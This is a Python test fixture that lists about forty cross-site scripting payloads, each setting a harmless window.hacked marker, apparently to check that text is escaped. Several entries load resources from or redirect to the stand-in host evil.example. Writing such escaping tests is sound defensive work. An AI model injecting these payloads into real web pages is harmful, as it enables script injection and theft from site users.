"""Texts that are scripts wherever they are not escaped, for tests."""

from __future__ import annotations

from typing import Final

MARK: Final = "hacked"
"""A script of ours that ran has set this on the window."""
_RUN: Final = f"window.{MARK}=1"

TEXTS: Final = tuple(
    text.replace("RUN", _RUN)
    for text in (
        "<script>RUN</script>",
        "</script><script>RUN</script>",
        "<ScRiPt >RUN</sCrIpT>",
        "<script src=//evil.example/x></script>",
        "<img src=x onerror=RUN>",
        '"><img src=x onerror=RUN>',
        "'><img src=x onerror=RUN>",
        "<img src=`x` onerror=RUN>",
        "<img/src/onerror=RUN>",
        "<image src=x onerror=RUN>",
        "<svg onload=RUN>",
        "<svg/onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><use href='data:image/svg+xml,x'>",
        "<math><mtext></p><img src=x onerror=RUN>",
        "<body onload=RUN>",
        "<iframe src=javascript:RUN></iframe>",
        "<iframe srcdoc='<script>RUN</script>'>",
        "<object data=javascript:RUN>",
        "<embed src=javascript:RUN>",
        "<details open ontoggle=RUN>",
        "<input autofocus onfocus=RUN>",
        "<select autofocus onfocus=RUN>",
        "<video><source onerror=RUN></video>",
        "<audio src=x onerror=RUN>",
        "<marquee onstart=RUN>",
        "<a href=javascript:RUN>x</a>",
        "javascript:RUN",
        "data:text/html,<script>RUN</script>",
        "<link rel=stylesheet href=//evil.example/x>",
        "<style>@import '//evil.example/x'</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><button>x",
        "<template><img src=x onerror=RUN></template>",
        "<!--><img src=x onerror=RUN>-->",
        "]]><img src=x onerror=RUN>",
        "{{constructor.constructor('RUN')()}}",
        "${RUN}`+RUN+`'+RUN+'",
    )
)
